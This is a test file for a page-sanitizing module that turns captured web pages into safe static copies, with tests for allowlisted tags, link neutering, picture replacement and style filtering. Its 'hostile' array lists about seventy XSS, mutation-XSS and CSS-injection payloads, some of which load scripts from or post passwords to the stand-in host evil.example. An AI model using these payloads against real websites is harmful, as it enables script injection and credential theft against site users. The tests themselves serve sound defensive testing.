import { parse, defaultTreeAdapter, type DefaultTreeAdapterTypes } from "parse5";
import { describe, expect, test } from "vitest";

import { copyPage } from "#/server/capture/keep/copy.ts";
import { filterStyle } from "#/server/capture/keep/copy-style.ts";

const copyOf = (html: string, pictures: readonly (readonly [string, number])[] = []) => {
  const copy = copyPage({
    bytes: Buffer.from(html, "utf8"),
    charset: "utf-8",
    url: "https://paper.example/news/story",
    pictures,
  });
  return { ...copy, html: copy.pieces.map((piece) => (typeof piece === "number" ? `kept:${piece}` : piece)).join("") };
};

/** Every element that a browser would build of the copy, with its attributes. */
function elementsOf(html: string): DefaultTreeAdapterTypes.Element[] {
  const found: DefaultTreeAdapterTypes.Element[] = [];
  const visit = (node: DefaultTreeAdapterTypes.ParentNode): void => {
    for (const child of node.childNodes) {
      if (!defaultTreeAdapter.isElementNode(child)) continue;
      found.push(child);
      visit(child);
    }
  };
  visit(parse(`<!doctype html><html><head></head><body>${html}</body></html>`));
  return found;
}

const tags =
  "html head body a abbr address article aside b bdi bdo blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark nav ol p pre q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr".split(
    " ",
  );
const attributes =
  "align alt border cellpadding cellspacing class colspan datetime dir hidden lang open reversed rowspan scope span src start style title type valign value width".split(
    " ",
  );

const hostile: readonly string[] = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img/src=x/onerror=alert(1)//",
  '<img src="https://evil.example/count.gif">',
  '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">',
  "<picture><source srcset=//evil.example/a.webp><img alt=a></picture>",
  "<body onload=alert(1) background=//evil.example/b.png>",
  '<p onclick="alert(1)" onmouseover=alert(1) tabindex=1 autofocus onfocus=alert(1)>text',
  '<a href="javascript:alert(1)">run</a>',
  '<a href="java\tscript:alert(1)">run</a>',
  '<a href="&#106;avascript:alert(1)">run</a>',
  '<a href="data:text/html,<script>alert(1)</script>">run</a>',
  '<a href="https://evil.example/" ping="https://evil.example/ping" target=_top download>away</a>',
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><a xlink:href=javascript:alert(1)><text>run</text></a></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>run</maction></math>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<p>x</p><meta http-equiv="refresh" content="0;javascript:alert(1)">',
  '<base href="https://evil.example/"><img src=a.png><a href=b>b</a>',
  "<iframe src=https://evil.example/></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<frameset><frame src=https://evil.example/></frameset>",
  "<object data=https://evil.example/x.swf><param name=movie value=x><embed src=//evil.example/e></object>",
  '<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href="//evil.example/p">',
  "<style>@import url(https://evil.example/x.css); body{background:url(//evil.example/b.png)}</style>",
  '<div style="background:url(https://evil.example/b.png)">a</div>',
  '<div style="background-image:image-set(url(//evil.example/c.png) 1x)">a</div>',
  '<div style="width:expression(alert(1))">a</div>',
  '<div style="-moz-binding:url(//evil.example/x.xml#a);behavior:url(//evil.example/x.htc)">a</div>',
  '<div style="position:fixed;inset:0;z-index:9999;background:white">over it all</div>',
  '<div style="color:red\\;background:\\75rl(//evil.example)">a</div>',
  "<div style='font-family:\"x;}*{background:url(//evil.example)}\"'>a</div>",
  "<form action=https://evil.example/ method=post><input name=password type=password><button>Send</button></form>",
  "<form id=x></form><button form=x formaction=javascript:alert(1)>run</button>",
  "<input type=image src=//evil.example/i.png onerror=alert(1)>",
  "<form name=cookie><input name=attributes><input name=parentNode></form>",
  "<a id=location name=location href=//evil.example/>a</a><img name=createElement>",
  "<title></title><script>alert(1)</script></title>",
  "<title><img src=x onerror=alert(1)></title>",
  "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
  "<xmp><img title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<template><script>alert(1)</script></template>",
  "<div><template shadowrootmode=open><slot></slot><script>alert(1)</script></template></div>",
  "<plaintext><script>alert(1)</script>",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<!--><script>alert(1)</script>-->",
  "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<table><td><script>alert(1)</script><tr><img src=x onerror=alert(1)>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<video src=//evil.example/v.mp4 poster=//evil.example/p.png onerror=alert(1)><source onerror=alert(1)></video>",
  "<audio controls src=//evil.example/a.mp3></audio><track src=//evil.example/t.vtt>",
  "<details open ontoggle=alert(1)><summary>s</summary></details>",
  "<marquee onstart=alert(1)>m</marquee><dialog open onclose=alert(1)>d</dialog>",
  "<x-widget onclick=alert(1)><slot onslotchange=alert(1)>w</slot></x-widget>",
  "<td colspan=99999999 rowspan=1e9>wide</td><table><td colspan=99999999>wide",
  "<ol start=99999999999999><li value=-1>one</ol>",
  "<area href=javascript:alert(1)><map name=m><area href=//evil.example/></map>",
  "<portal src=//evil.example/></portal><fencedframe></fencedframe><applet code=x></applet>",
  "<p title='\"><script>alert(1)</script>'>a</p>",
  "<p lang='\" onclick=alert(1) x=\"' dir='ltr\" onclick=\"alert(1)'>a</p>",
  "<p title=`onmouseover=alert(1)`>a</p>",
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<link rel=import href=//evil.example/i.html><keygen autofocus onfocus=alert(1)><isindex action=javascript:alert(1)>",
];

describe("the safe copy of a page", () => {
  test.each(hostile)("holds nothing but elements and attributes of its list: %s", (html) => {
    for (const whole of [html, `<!doctype html><html><head>${html}</head><body><p>Words.</p>${html}<p>More.</p>`]) {
      const copy = copyOf(whole);
      const elements = elementsOf(copy.html);
      expect(elements.filter(({ tagName }) => !tags.includes(tagName)).map(({ tagName }) => tagName)).toEqual([]);
      const given = elements.flatMap(({ attrs }) => attrs);
      expect(given.filter(({ name }) => !attributes.includes(name)).map(({ name }) => name)).toEqual([]);
      expect(given.filter(({ name, value }) => name === "src" && !/^kept:\d+$/u.test(value))).toEqual([]);
      expect(given.filter(({ name, value }) => name === "style" && /url|expression|@|\\|fixed/iu.test(value))).toEqual(
        [],
      );
      expect(given.filter(({ name, value }) => name === "class" && value !== "link" && value !== "gone")).toEqual([]);
      expect(copy.html).not.toMatch(/<(?:script|style|iframe|svg|math|base|meta|link|form|input|object|embed)/iu);
    }
  });

  test("what a browser builds of a copy is copied to the same copy: nothing grows on the way", () => {
    for (const html of hostile) {
      const once = copyOf(html).html;
      const twice = copyOf(once).html;
      const plain = (text: string) =>
        elementsOf(text)
          .map(({ tagName }) => tagName)
          .filter((tag) => tag !== "div")
          .join();
      expect(plain(twice)).toBe(plain(once));
    }
  });

  test("keeps the words, their order and their structure", () => {
    const { html } = copyOf(
      "<h1>Ferry &lt;timetable&gt;</h1><p>Leaves at <b>nine</b>.<ul><li>Summer<li>Winter</ul><table><tr><th scope=col>Day<td colspan=2>Time</table>",
    );
    expect(html).toContain("<h1>Ferry &lt;timetable&gt;</h1><p>Leaves at <b>nine</b>.</p>");
    expect(html).toContain("<ul><li>Summer</li><li>Winter</li></ul>");
    expect(html).toContain('<tr><th scope="col">Day</th><td colspan="2">Time</td></tr>');
  });

  test("a link says where it led, and leads nowhere", () => {
    const { html } = copyOf('<base href="https://other.example/x/"><p>See <a href="page?a=1&b=2">this</a>.');
    expect(html).toContain('<a class="link" title="https://other.example/x/page?a=1&amp;b=2">this</a>');
    expect(html).not.toContain("href");
  });

  test("kept pictures stand in their places, however their address was written; others leave their description", () => {
    const kept = [
      ["https://paper.example/a.jpg", 0],
      ["https://paper.example/news/b-2x.webp", 1],
      ["https://cdn.example/c.png", 2],
    ] as const;
    const { html, pieces, leftOut } = copyOf(
      `<img src="/a.jpg" alt='A "quay"'><picture><source srcset="b-1x.webp 1x, b-2x.webp 2x"><img src=x.jpg></picture>
       <img src="data:image/gif;base64,R0" data-src="//cdn.example/c.png"><img src=/d.png alt="A crane"><img src=/e.png>`,
      kept,
    );
    expect(pieces.filter((piece) => typeof piece === "number")).toEqual([0, 1, 2]);
    expect(html).toContain('<img alt="A &quot;quay&quot;" src="kept:0">');
    expect(html).toContain('<span class="gone">A crane</span>');
    expect(leftOut).toEqual({ "pictures that are not kept": 2 });
  });

  test("what is left out is counted by kind, also where it stood in the head", () => {
    const { leftOut } = copyOf(
      "<head><script></script><style></style><link rel=stylesheet href=x><link rel=icon href=y></head><body><script></script><iframe></iframe><input type=hidden><input><svg></svg><video></video>",
    );
    expect(leftOut).toEqual({
      scripts: 2,
      "style sheets": 2,
      "frames and plug-ins": 1,
      "form fields": 1,
      drawings: 1,
      recordings: 1,
    });
  });

  test("looks of text stay, whatever could load or lay over goes", () => {
    expect(filterStyle("color: red; font-weight:bold ;BACKGROUND-COLOR:#fff;margin:0 auto!important")).toBe(
      "color:red;font-weight:bold;background-color:#fff;margin:0 auto!important",
    );
    expect(filterStyle("color:rgb(1, 2, 3);width:calc(100% - 2px)")).toBe("color:rgb(1, 2, 3);width:calc(100% - 2px)");
    for (const bad of [
      "color:url(x)",
      "color:var(--x)",
      "position:fixed",
      "width:attr(x)",
      "color",
      ":red",
      "a:b",
      "color:rgb(url(x))",
    ])
      expect(filterStyle(bad)).toBe("");
  });

  test("a page of another character set is read as it was decoded", () => {
    const bytes = Buffer.from("<p>Größe</p>", "latin1");
    const copy = copyPage({ bytes, charset: "windows-1252", pictures: [] });
    expect(copy.pieces.join("")).toContain("<p>Größe</p>");
  });

  test("nesting of any depth is flattened, and a page of too many pieces is refused with the reason", () => {
    const deep = copyOf("<div>".repeat(5000) + "deep").html;
    expect(deep).toContain("deep");
    expect(deep.split("<div>").length).toBeLessThan(250);
    expect(() => copyOf("<p>a</p>".repeat(160_000))).toThrow("too many pieces");
  });
});
